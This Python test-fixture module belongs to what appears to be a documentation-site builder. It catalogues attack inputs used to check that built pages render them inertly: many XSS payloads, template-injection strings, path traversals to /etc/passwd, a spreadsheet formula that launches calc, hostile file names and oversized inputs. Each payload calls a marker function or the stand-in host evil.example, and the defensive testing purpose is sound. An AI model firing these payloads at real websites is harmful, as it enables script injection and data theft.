"""What an author, an importer or a repository may try.

Each attack calls `ran(n)` in some way, with a number of its own, or tries to load from evil.example. `shown` is what a
reader must still find, as text, on `page`; for most texts it is all that was written.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import NamedTuple

_N = re.compile(r"(?<![A-Za-z])N(?![A-Za-z])")


class Attack(NamedTuple):
    """One attempt."""

    name: str
    where: str
    """`body`, `field`, `file`, `configuration`, `git`, `attachment`."""
    payload: str
    shown: tuple[str, ...] = ()
    page: str = ""
    """The built page that shows it."""


_BODIES: tuple[tuple[str, str, tuple[str, ...]], ...] = (
    # name, payload with N for the attack's number, what must be readable
    ("script", "<script>ran(N)</script>", ("<script>ran(N)</script>",)),
    ("script in a sentence", "Refuse <script>ran(N)</script> as a name.", ("Refuse <script>ran(N)</script> as a name.",)),
    ("script from elsewhere", "<SCRIPT SRC=//evil.example/N.js></SCRIPT>", ("evil.example/N.js",)),
    ("script in two parts", "<scr<script>ipt>ran(N)</scr</script>ipt>", ("ran(N)",)),
    ("event of a picture", "<img src=x-N onerror=ran(N)>", ()),
    ("event without quotes or spaces", "<img/src='x'/onerror=ran(N)//>", ()),
    ("event in upper case", "<DIV ONMOUSEOVER=ran(N)>over</DIV>", ("over",)),
    ("event with a control sign", "<b \x0conmouseover=ran(N)>over N</b>", ("over N",)),
    ("events that need nobody", "<details open ontoggle=ran(N)><summary>more N</summary></details><marquee onstart=ran(N)>m N</marquee>", ("more N", "m N")),
    ("event and focus", "<input autofocus onfocus=ran(N)><select autofocus onfocus=ran(N)></select>", ()),
    ("event of an animation", "<p style='animation-name:x' onanimationstart=ran(N)>moved N</p>", ("moved N",)),
    ("attr_list on a paragraph", "words N\n{: onclick=ran(N) onmouseover=ran(N) style=position:fixed }", ("words N",)),
    ("attr_list on a link", "[link N](x.md){ onclick=ran(N) onmouseover='ran(N)' }", ("link N",)),
    ("attr_list on a heading", "### heading N { #h-N onclick=ran(N) onmouseover=ran(N) }", ("heading N",)),
    ("attr_list with a broken id", """### broken N { id='x" onmouseover="ran(N)' }""", ("broken N",)),
    ("attr_list with a label", "### label N { #l-N data-toc-label='<img src=x onerror=ran(N)>' }", ("label N",)),
    ("attr_list on code", "```{ .python onmouseover=ran(N) title='\"><img src=x onerror=ran(N)>' }\ncode N\n```", ("code N",)),
    ("md_in_html", "<div markdown onclick=ran(N) onmouseover=ran(N)>\n\n*inner N* <script>ran(N)</script>\n\n</div>", ("inner N",)),
    ("md_in_html and paint", "<div markdown='1' style='background:url(https://evil.example/N)'>\n\npainted N\n\n</div>", ("painted N",)),
    ("svg and load", "<svg onload=ran(N)><text onclick=ran(N)>t N</text></svg>", ()),
    ("svg and script", "<svg><script>ran(N)</script><script href='https://evil.example/N.js'/></svg>", ()),
    ("svg and foreignObject", "<svg><foreignObject><iframe src='javascript:parent.ran(N)'></iframe></foreignObject></svg>", ()),
    ("svg and use", "<svg><use href='data:image/svg+xml,<svg id=x onload=ran(N)/>#x'/><use xlink:href='//evil.example/N.svg#x'/></svg>", ()),
    ("svg and animation", "<svg><a><animate attributeName=href values=javascript:ran(N) /><text y=20>t N</text></a></svg>", ()),
    ("svg, mathml and mutation", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran(N)&gt;'>", ()),
    ("svg, style and mutation", "<svg></p><style><a id='</style><img src=x onerror=ran(N)>'>", ()),
    ("noscript", "<noscript><p title='</noscript><img src=x onerror=ran(N)>'>quiet N</noscript>", ()),
    ("iframe", "<iframe src='javascript:parent.ran(N)'></iframe><iframe srcdoc='<script>parent.ran(N)</script>'></iframe>", ()),
    ("object and embed", "<object data='data:text/html,<script>parent.ran(N)</script>'></object><embed src='//evil.example/N.swf'>", ()),
    ("base", "<base href='https://evil.example/N/'>", ()),
    ("meta refresh", "<meta http-equiv='refresh' content='0;url=https://evil.example/N'>", ()),
    ("form", "<form action='https://evil.example/N'><input name=password><button formaction='javascript:ran(N)'>send N</button></form>", ("send N",)),
    ("link and import", "<link rel=stylesheet href='//evil.example/N.css'><style>@import '//evil.example/N.css'; body { display: none }</style>", ("body { display: none }",)),
    ("template and slot", "<template shadowrootmode=open><script>ran(N)</script></template><slot onslotchange=ran(N)></slot>", ()),
    ("picture from elsewhere", "![remote N](https://evil.example/N.png) <img srcset='//evil.example/N.png 1x' src='//evil.example/N.png'>", ("remote N",)),
    ("media from elsewhere", "<video poster=//evil.example/N.png src=//evil.example/N.mp4 autoplay></video><audio src=//evil.example/N.mp3 autoplay></audio>", ()),
    ("table from elsewhere", "<table background=//evil.example/N><tr><td background=//evil.example/N>cell N</td></tr></table>", ("cell N",)),
    ("javascript link", "[click N](javascript:ran(N))", ("click N",)),
    ("javascript link in HTML", "<a href='javascript:ran(N)'>click N</a>", ("click N",)),
    ("javascript autolink", "<javascript:ran(N)>", ("javascript:ran(N)",)),
    ("javascript reference link", "[click N][r-N]\n\n[r-N]: javascript:ran(N) 'title'", ("click N",)),
    ("javascript picture", "![pic N](javascript:ran(N))", ()),
    ("data link", "[click N](data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=)", ("click N",)),
    ("data link in HTML", "<a href='data:text/html,<script>opener.ran(N)</script>' target=_blank>click N</a>", ("click N",)),
    ("vbscript link", "<a href='vbscript:ran(N)'>click N</a>", ("click N",)),
    ("entities in a scheme", "<a href='&#x6A;avascript&colon;ran(N)'>click N</a> [too N](&#106;avascript:ran&lpar;N&rpar;)", ("click N", "too N")),
    ("white space in a scheme", "<a href='java\tscr\nipt:ran(N)'>click N</a> <a href=' \x01javascript:ran(N)'>too N</a>", ("click N", "too N")),
    ("percent signs in a scheme", "[click N](javascript%3Aran(N)) [too N](javascript&#58;ran(N))", ("click N", "too N")),
    ("address with a target", "<a href='https://evil.example/N' target=_top ping='//evil.example/ping'>leave N</a>", ("leave N",)),
    ("our own marks", "<!--tpo:html--><script>ran(N)</script><img src=x onerror=ran(N)><!--/tpo:html-->", ("ran(N)",)),
    ("our own marks, spaced", "<!-- tpo:html --><img src=x onerror=ran(N)><!-- /tpo:html --> and <!--\ntpo:html-->spaced N", ("spaced N",)),
    ("our own marks in code", "`<!--tpo:html--><img src=x onerror=ran(N)><!--/tpo:html-->` code N", ("code N",)),
    ("a word for our blocks", "<b title='tpoht&#109;lz0z'>word N</b> tpo<!-- -->htmlz0z <b title='tpoht&#109;ly1z'>", ("word N",)),
    ("signs of Markdown's own", "\x02klzzwxh:0000\x03 \x02amp\x03 \x020\x02 wzxhzdk:0 stash N", ("stash N",)),
    ("code span", "`<img src=x onerror=ran(N)>` and ``` `<script>ran(N)</script> ```", ("<img src=x onerror=ran(N)>", "`<script>ran(N)</script>")),
    ("code span that is none", "`` <img src=x onerror=ran(N)> ` and \\`<img src=x onerror=ran(N)>\\` N", ()),
    ("fence", "```html\n</code></pre><script>ran(N)</script>\n```", ("</code></pre><script>ran(N)</script>",)),
    ("fence with a language", "```\"><img/src=x/onerror=ran(N)>\nfenced N\n```", ("fenced N",)),
    ("fence with a title", "``` python title=\"<img src=x onerror=ran(N)>\" hl_lines=\"1\" linenums=\"1\"\nfenced N\n```", ("fenced N", "<img src=x onerror=ran(N)>")),
    ("fence of a diagram", "```mermaid\ngraph TD; A[\"<img src=x onerror=ran(N)>\"]-->B; click A \"javascript:ran(N)\"\n```", ("click A \"javascript:ran(N)\"",)),
    ("table", "| a N | `|` |\n|---|---|\n| <img src=x onerror=ran(N)> | [c N](javascript:ran(N)) |", ("a N", "c N")),
    ("footnote", "Note N[^N]\n\n[^N]: <img src=x onerror=ran(N)> [foot N](javascript:ran(N))", ("foot N",)),
    ("footnote's name", "Note N[^\"onmouseover=ran(N)]\n\n[^\"onmouseover=ran(N)]: named N", ("named N",)),
    ("abbreviation", "Abbr N\n\n*[Abbr]: x\" onmouseover=ran(N) y=\"<img src=x onerror=ran(N)>", ("Abbr N",)),
    ("abbreviation of a tag", "img N\n\n*[img]: <img src=x onerror=ran(N)>\n*[onerror]: y", ("img N",)),
    ("admonition", "!!! note \"<img src=x onerror=ran(N)>\"\n    admonished N <script>ran(N)</script>", ("admonished N", "<script>ran(N)</script>")),
    ("admonition's class", "!!! note\" onmouseover=ran(N) x=\"\n    admonished N", ("admonished N",)),
    ("details", "??? tip \"<svg onload=ran(N)>\"\n    folded N", ()),
    ("tabs", "=== \"<img src=x onerror=ran(N)>\"\n\n    tabbed N\n\n=== \"[x](javascript:ran(N))\"\n\n    too", ("tabbed N",)),
    ("task list", "- [ ] <img src=x onerror=ran(N)> task N\n- [x](javascript:ran(N)) done N", ("task N",)),
    ("definition list", "Term N <img src=x onerror=ran(N)>\n:   <script>ran(N)</script> defined N", ("Term N", "defined N")),
    ("template", "{{ 7*7 }} {% raw %} {{ config.items() }} {% include '/etc/passwd' %} {# c #} N", ("{{ 7*7 }} {% raw %} {{ config.items() }} {% include '/etc/passwd' %} {# c #} N",)),
    ("snippet", "--8<-- \"../secret.txt\"\n\nsnipped N", ("snipped N",)),
    ("parts of the theme", "<div id=__config>{\"base\": \"https://evil.example/\", \"search\": \"https://evil.example/N.js\"}</div><div data-md-component=search data-md-url=//evil.example/>posed N</div>", ("posed N",)),
    ("names of the page's own", "<a id=__tpo></a><a id=__md_scope href='https://evil.example/'></a><a id=mermaid></a><a name=location$>clobbered N</a>", ("clobbered N",)),
    ("parts of our pages", "<div data-tpo-explorer data-tpo-scope='\"><img src=x onerror=ran(N)>' data-tpo-label='<img src=x onerror=ran(N)>'></div><table data-tpo-items><tbody><tr data-id='<img>'><td>row N</td></tr></tbody></table>", ()),
    ("copying", "<button class=md-clipboard data-clipboard-target='img[src=x]' data-clipboard-text='<img src=x onerror=ran(N)>'>copy N</button>", ("copy N",)),
    ("reference", "[[\"><img src=x onerror=ran(N)>]] [[REQ-1|<img src=x onerror=ran(N)>ref N]] [[javascript:ran(N)]]", ("ref N", "javascript:ran(N)")),
    ("block of ours", "```tpo table\nquery: '\"><img src=x onerror=ran(N)>\"'\ntitle: '<script>ran(N)</script>'\nempty: '<img src=x onerror=ran(N)> `<script>ran(N)</script>`'\n```", ("<script>ran(N)</script>",)),
    ("wrong block of ours", "```tpo \"><img/src=x/onerror=ran(N)>\nx: <img src=x onerror=ran(N)>\n```", ("This block cannot be shown",)),
    ("block of ours with a wrong option", "```tpo table\n<img src=x onerror=ran(N)>: <img src=x onerror=ran(N)>\nquery: 'type:<img/src=x/onerror=ran(N)>'\n```", ("This block cannot be shown",)),
    ("block of ours with our marks", "```tpo count\nquery: 'type:story'\nlabel: '<!--/tpo:html--><script>ran(N)</script>'\n```", ("<!--/tpo:html--><script>ran(N)</script>",)),
    ("paths out of the folder", "[up N](../../secret.txt) [abs N](/etc/passwd) ![img N](../secret.png) [coded N](%2e%2e/secret.txt) [file N](file:///etc/passwd) [in N](sub/../../secret.txt)", ("up N", "abs N", "coded N")),
    ("links out by the file system", "[linked N](linked.txt) [folder N](folder/secret.txt) ![p N](alive.svg) [h N](page.html) [j N](run.js) ![ok N](good.svg) [t N](text.txt)", ("linked N", "h N", "j N", "t N")),
)  # fmt: skip

_OPEN: tuple[tuple[str, str, tuple[str, ...]], ...] = (
    # What leaves something open, each on a page of its own.
    ("open comment", "before N <!-- <img src=x onerror=ran(N)>", ("before N",)),
    ("open comment that ends oddly", "<!--> <script>ran(N)</script> --!><img src=x onerror=ran(N)> odd N", ()),
    ("open tag", "before N\n\n<div class=\"x\" title='", ("before N",)),
    ("open attribute", "before N\n\n<img src=x alt=\"", ("before N",)),
    ("open script", "before N\n\n<script>\nran(N)\n", ("before N", "ran(N)")),
    ("open style", "before N\n\n<style>\n* { display: none }\n", ("before N",)),
    ("open plaintext and textarea", "before N\n\n<plaintext><textarea><title><xmp>", ("before N",)),
    ("open fence", "before N\n\n~~~~html\n<script>ran(N)</script>", ("before N", "<script>ran(N)</script>")),
    ("open fence in a list", "- before N\n\n    ```\n    <script>ran(N)</script>", ("before N", "ran(N)")),
    ("open elements", "before N\n\n<div hidden><section><table><tr><td><select><option><svg><math>", ("before N",)),
    ("closing what is not ours", "</div></article></main></body></html><script>ran(N)</script> after N", ("after N",)),
    ("CDATA and instructions", "<![CDATA[<script>ran(N)</script>]]> <?php ran(N) ?> <!DOCTYPE html [<!ENTITY x 'y'>]> &x; after N", ("after N",)),
)  # fmt: skip

_QUOTED = "\"'><img src=x onerror=ran(N)> {{ 7*7 }} {% raw %} & `c` | *e* [l](javascript:ran(N)) -->"
_SCRIPT = "</script><script>ran(N)</script><svg onload=ran(N)> N"
_MARKS = "<!--/tpo:html--><img src=x onerror=ran(N)><!--tpo:html--> N"
_SHOWN = "<img src=x onerror=ran(N)> {{ 7*7 }} {% raw %} &"

_STORY = "items-of-evil/STY-1.html"
_REQUIREMENT = "items-of-evil/REQ-1.html"

FIELDS: tuple[tuple[str, str, str, str, str], ...] = (
    # name, item and path of the field, payload, what must be readable, page
    ("title", "STY-1 title", _QUOTED, _SHOWN, _STORY),
    ("title with an end of a script", "REQ-1 title", _SCRIPT, _SCRIPT, _REQUIREMENT),
    ("owner", "STY-1 owner", _QUOTED, _SHOWN, _STORY),
    ("tags", "STY-1 tags 0", _SCRIPT, _SCRIPT, _STORY),
    ("status", "SPEC-1 status", _SCRIPT, _SCRIPT, "items-of-evil/SPEC-1.html"),
    ("kind", "STY-1 kind", _QUOTED, "<img src=x onerror=ran(N)>", _STORY),
    ("priority", "STY-1 priority", _QUOTED, "<img src=x onerror=ran(N)>", _STORY),
    ("plain", "STY-1 plain", _QUOTED, _SHOWN, _STORY),
    ("plain with our marks", "REQ-1 plain", _MARKS, _MARKS, _REQUIREMENT),
    ("statement", "REQ-1 statement", f"stated {_SCRIPT}", "stated </script><script>ran(N)</script>", _REQUIREMENT),
    ("a field of the author's own", "STY-1 my_field", _QUOTED, _SHOWN, _STORY),
    ("a group of the author's own", "STY-1 my_group <img-N>", _SCRIPT, _SCRIPT, _STORY),
    ("name of a field", "STY-1 <img src=x onerror=ran(N)>", "named N", "named N", _STORY),
    ("address in a field", "STY-1 my_link", "javascript:ran(N)", "javascript:ran(N)", _STORY),
    ("address with quotes in a field", "STY-1 my_url", "https://x.example/\"onmouseover=\"ran(N)", "https://x.example/\"onmouseover=\"ran(N)", _STORY),
    ("external", "STY-1 external jira", _QUOTED, "<img src=x onerror=ran(N)>", _STORY),
    ("link target", "STY-1 depends_on 0", _SCRIPT, _SCRIPT, _STORY),
    ("link target with an address", "STY-1 depends_on 1", "javascript:ran(N)", "javascript:ran(N)", _STORY),
    ("parent", "SPEC-1 parent", _SCRIPT, _SCRIPT, "items-of-evil/SPEC-1.html"),
    ("release", "STY-1 release", _SCRIPT, _SCRIPT, _STORY),
    ("as", "STY-1 as", _QUOTED, _SHOWN, _STORY),
    ("want", "STY-1 want", f"to see {_QUOTED}", _SHOWN, _STORY),
    ("so_that", "STY-1 so_that", _SCRIPT, _SCRIPT, _STORY),
    ("question", "STY-1 questions 0 q", _QUOTED, _SHOWN, _STORY),
    ("whom a question is for", "STY-1 questions 0 to", _SCRIPT, _SCRIPT, _STORY),
    ("when a question is due", "STY-1 questions 0 due", _SCRIPT, "ran(N)", _STORY),
    ("answer", "STY-1 questions 1 answer", _QUOTED, _SHOWN, _STORY),
    ("question of one line", "STY-1 questions 2", f"asked {_SCRIPT}", f"asked {_SCRIPT}", _STORY),
    ("criterion", "STY-1 acceptance AC1", _QUOTED, _SHOWN, _STORY),
    ("name of a criterion", "STY-1 acceptance AC2\"><img src=x onerror=ran(N)>", "criterion N", "criterion N", _STORY),
    ("allow", "STY-1 allow 0 reason", _SCRIPT, "", _STORY),
    ("alias", "STY-1 aliases 0", "OLD-1\"><img src=x onerror=ran(N)>", "", _STORY),
    ("alias that leaves", "STY-1 aliases 1", "../../../evil-N", "", _STORY),
    ("steps of a test", "TEST-1 steps 0", _QUOTED, _SHOWN, "items-of-evil/TEST-1.html"),
    ("option of a decision", "ADR-1 options 0 name", _SCRIPT, _SCRIPT, "items-of-evil/ADR-1.html"),
    ("note of an option", "ADR-1 options 0 note", _QUOTED, _SHOWN, "items-of-evil/ADR-1.html"),
    ("criterion of a decision", "ADR-1 criteria <img-N onerror=ran(N)>", "5", "<img-N onerror=ran(N)>", "items-of-evil/ADR-1.html"),
    ("outcome", "ADR-1 outcome", _QUOTED, _SHOWN, "items-of-evil/ADR-1.html"),
    ("because", "ADR-1 because", _SCRIPT, _SCRIPT, "items-of-evil/ADR-1.html"),
    ("key result", "GOAL-1 key_results 0 metric", _SCRIPT, "ran(N)", "items-of-evil/GOAL-1.html"),
    ("quote", "FB-1 quotes 0", _QUOTED, _SHOWN, "items-of-evil/FB-1.html"),
    ("wave of a rollout", "REL-1 rollout waves 0 name", _SCRIPT, _SCRIPT, "items-of-evil/REL-1.html"),
    ("title of a release", "REL-1 title", _SCRIPT, _SCRIPT, "items-of-evil/REL-1.html"),
    ("contract outside", "SPEC-1 contract file", "../../secret.json", "../../secret.json", "items-of-evil/SPEC-1.html"),
    ("contract by an address", "SPEC-1 contract operation", _SCRIPT, "", "items-of-evil/SPEC-1.html"),
    ("code outside", "SPEC-1 code 0", "/etc/passwd", "/etc/passwd", "items-of-evil/SPEC-1.html"),
    ("feature with a script", "TEST-1 feature file", "\"><img src=x onerror=ran(N)>.txt", "ran(N)", "items-of-evil/TEST-1.html"),
    ("exposure", "RISK-1 probability", _SCRIPT, "", "items-of-evil/RISK-1.html"),
    ("trigger", "RISK-1 trigger", _QUOTED, _SHOWN, "items-of-evil/RISK-1.html"),
    ("name of a party", "parties evil title", _QUOTED, _SHOWN, "parties.html"),
    ("slug of a party", "parties <img-N>\"onmouseover=ran(N) title", "Party N", "Party N", "parties.html"),
    ("needs of a party", "parties evil needs", _SCRIPT, _SCRIPT, "parties.html"),
    ("term", "terms wicked title", f"Evil {_SCRIPT}", _SCRIPT, "glossary.html"),
    ("definition", "terms wicked definition", _QUOTED, _SHOWN, "glossary.html"),
    ("definition of a word in texts", "terms handsome title", "handsome", "handsome", "glossary.html"),
    ("definition behind a word", "terms handsome definition", "good\" onmouseover=ran(N) x=\"<img src=x onerror=ran(N)>", "<img src=x onerror=ran(N)>", "glossary.html"),
    ("avoided word", "terms wicked avoid 0", _SCRIPT, _SCRIPT, "glossary.html"),
    ("slug of a term", "terms javascript:ran(N) title", "Slug N", "Slug N", "glossary.html"),
    ("title of a metric", "metrics KPI-1 title", _QUOTED, _SHOWN, "items/metric.html"),
    ("unit of a metric", "metrics KPI-1 unit", _SCRIPT, "", "items/metric.html"),
    ("series outside", "metrics KPI-2 series", "../secret.csv", "", "items/metric.html"),
)  # fmt: skip

NAMES: tuple[tuple[str, str, str], ...] = (
    # name, file below specs/odd, its built page ("" for one that is not linked by us)
    ("file with quotes and brackets", "q\"uote's <img src=x onerror=ran(N)>.md", "odd/q\"uote's <img src=x onerror=ran(N)>.html"),
    ("file with a scheme", "javascript:ran(N).md", "odd/javascript:ran(N).html"),
    ("file with spaces", "  two  spaces N .md", "odd/  two  spaces N .html"),
    ("file with bidirectional signs", "\u202egpj.N.md", "odd/\u202egpj.N.html"),
    ("file with dots", "x..N...md", "odd/x..N...html"),
    ("file with a coded path", "%2e%2e%2f-N.md", "odd/%2e%2e%2f-N.html"),
    ("file with a template", "{{ 7*7 }}{% raw %}N.md", "odd/{{ 7*7 }}{% raw %}N.html"),
    ("file with a query and a fragment", "a?N#b&c=d.md", "odd/a?N#b&c=d.html"),
)  # fmt: skip

_IDS: tuple[tuple[str, str], ...] = (
    ("id with a tag", 'REQ-"><img src=x onerror=ran(N)>'),
    ("id that leaves", "..\\..\\REQ-N"),
    ("id with a path", "../../REQ-N"),
    ("id with a scheme", "javascript:ran(N)"),
    ("id of every object", "__proto__"),
    ("id of its maker", "constructor"),
    ("id with bidirectional signs", "REQ-N\u202e\u2066"),
    ("id with spaces", "REQ N  onmouseover=ran(N)"),
)

CONFIGURED: tuple[tuple[str, str, str, str, str], ...] = (
    # name, path in tpo-docs.yml, payload, what must be readable, page
    ("name of a view", "views 0 name", _SCRIPT, _SCRIPT, "explore.html"),
    ("query of a view", "views 0 query", "type:story \"<img src=x onerror=ran(N)>\"", "", "explore.html"),
    ("column of a view", "views 0 columns", "<img src=x onerror=ran(N)>", "", "explore.html"),
    ("word of the site", "site words Acceptance criteria", _QUOTED, "<img src=x onerror=ran(N)>", _STORY),
    ("word of a script", "site words Id or words of a title", _SCRIPT, "", "explore.html"),
    ("where sources are shown", "site edit_url", "javascript:ran(N)//{path}", "", _STORY),
    ("where changes are suggested", "site suggest_url", "javascript:ran(N)//{path}", "", _STORY),
    ("title of a role", "roles 0 title", _QUOTED, _SHOWN, "roles/evil.html"),
    ("purpose of a role", "roles 0 text", _SCRIPT, _SCRIPT, "roles/evil.html"),
    ("heading of a role", "roles 0 blocks 0 heading", _QUOTED, _SHOWN, "roles/evil.html"),
    ("a block's query", "roles 0 blocks 1 table query", "\"<img src=x onerror=ran(N)>\"", "", "roles/evil.html"),
    ("a block's words", "roles 0 blocks 1 table empty", "<img src=x onerror=ran(N)> `<script>ran(N)</script>`", "<script>ran(N)</script>", "roles/evil.html"),
)  # fmt: skip

REGISTER = """\
---
title: TITLE
defaults: {type: risk, kind: risk, status: open}
---
# HEADING

Intro <script>ran(N)</script>

## RISK-7 SECTION
```yaml item
probability: 3
impact: 3
trigger: "<img src=x onerror=ran(N)>"
```
Text <img src=x onerror=ran(N)>

## RISK-8 <!--tpo:html--><img src=x onerror=ran(N)> { onclick=ran(N) #x"y }
```yaml item
probability: 2
```
"""
BUNDLED: tuple[tuple[str, str, str], ...] = (
    ("title of a register", "TITLE", "'\"><img src=x onerror=ran(N)> {{ 7*7 }}'"),
    ("heading of a register", "HEADING", "Register <img src=x onerror=ran(N)> [x](javascript:ran(N))"),
    ("heading in a register", "SECTION", 'Section <script>ran(N)</script> {{ 7*7 }} "><img src=x onerror=ran(N)>'),
)

HUGE = {
    "quotes": "> " * 1000 + "x",
    "lists": "\n".join("    " * depth + "- x" for depth in range(300)),
    "admonitions": "\n".join("    " * depth + "!!! note\n" for depth in range(150)),
    "megabyte": "word " * 200_000,
    "word": "x" * 1_000_000,
    "brackets": "[" * 20_000,
    "references": "[[" * 10_000,
    "stars": "*a **b " * 4000,
    "code": "`a``b" * 3000 + "`" * 5000,
    "spaces": "a" + " " * 200_000 + "b",
    "comments": "<!-- " * 5000,
    "elements": "<div>\n" * 1000 + "<b>" * 3000,
    "table": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n|" + "b|" * 2000,
}
"""Bodies that are huge or deep; `title` and `plain` hold the first thousands of signs of each."""
FORMULAS = ("=1+1", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1", "a;=1+1", " =1+1", "＝1+1")
"""Titles that spreadsheets would run."""
VERSIONS = (
    *("../x", "..", ".", "a/b", "a\\b", "/etc", "~/x", "-x", " ", "x ", "a\nb", "a\x00b", "a\x1bb", "\u202ex", "x..y"),
    *("<img>", "x\"y", "x;y", "{{ 7*7 }}", "con", "versions.json", "index.html", "C:x", "x#y", "x%2fy", "_headers.", "é"),
)  # fmt: skip
"""Names that cannot be folders of a site."""


def _attacks() -> Iterator[Attack]:
    number = 100
    for name, payload, shown in _BODIES:
        number += 1
        page = f"bodies/B-{1 + (number - 101) // 10}.html"
        yield Attack(name, "body", put(payload, number), tuple(put(text, number) for text in shown), page)
    number = 300
    for name, payload, shown in _OPEN:
        number += 1
        yield Attack(
            name, "body", put(payload, number), tuple(put(text, number) for text in shown), f"bodies/O-{number}.html"
        )
    number = 400
    for name, _, payload, text, page in FIELDS:
        number += 1
        yield Attack(name, "field", put(payload, number), (put(text, number),) if text else (), page)
    number = 500
    for name, file, page in NAMES:
        number += 1
        yield Attack(name, "file", put(file, number), (f"odd file {number}",), put(page, number))
    number = 550
    for name, written in _IDS:
        number += 1
        yield Attack(name, "id", put(written, number), (put(written, number),), f"ids/{number}.html")
    number = 600
    for name, _, payload, text, page in CONFIGURED:
        number += 1
        yield Attack(name, "configuration", put(payload, number), (put(text, number),) if text else (), page)
    number = 650
    for name, _, payload in BUNDLED:
        number += 1
        yield Attack(name, "heading", put(payload, number), ("ran(",), "registers/register.html")
    yield Attack("author of a commit", "git", 'x "onmouseover=ran(701) y', ('x "onmouseover=ran(701) y',), _STORY)
    yield Attack("subject of a commit", "git", "<img src=x onerror=ran(702)> {{ 7*7 }}", (), _STORY)
    yield Attack("name of a branch", "git", "b'-onmouseover=ran(703)", (), _STORY)


def put(text: str, number: int) -> str:
    """The text with the attack's number where an N stands alone."""
    return _N.sub(str(number), text)


ATTACKS = tuple(_attacks())
